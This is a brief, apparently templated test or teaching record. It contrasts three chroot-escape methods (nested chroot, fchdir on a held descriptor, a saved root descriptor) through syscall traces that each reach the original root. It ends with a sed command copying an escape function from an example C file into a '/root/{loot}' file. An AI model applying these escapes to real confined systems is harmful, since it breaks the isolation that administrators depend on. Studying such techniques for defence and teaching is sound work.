fails: held source
misconception: All three ways are one.

  $ escape chroot
  mkdir("{cage}", 0755)     = 0
  chdir("{cage}")           = 0
  chroot(".")                  = 0
  mkdir("sub", 0755)           = 0
  chroot("sub")                = 0
  chdir("..") x 16             = 0
  Out: "." is the directory that was "/" at the start.
  $ escape fchdir
  mkdir("{cage}", 0755)     = -1: File exists
  chdir("{cage}")           = 0
  chroot(".")                  = 0
  open(".", O_RDONLY)          = 3
  mkdir("sub", 0755)           = -1: File exists
  chroot("sub")                = 0
  fchdir(3)                    = 0
  chdir("..") x 16             = 0
  Out: "." is the directory that was "/" at the start.
  $ escape saved-fd
  mkdir("{cage}", 0755)     = -1: File exists
  open("/", O_RDONLY)          = 3
  chdir("{cage}")           = 0
  chroot(".")                  = 0
  fchdir(3)                    = 0
  chdir("..") x 16             = 0
  Out: "." is the directory that was "/" at the start.
  $ sed -n '/^by_fchdir/,/^}/p' /usr/share/examples/cellblock/escape.c > /root/{loot}
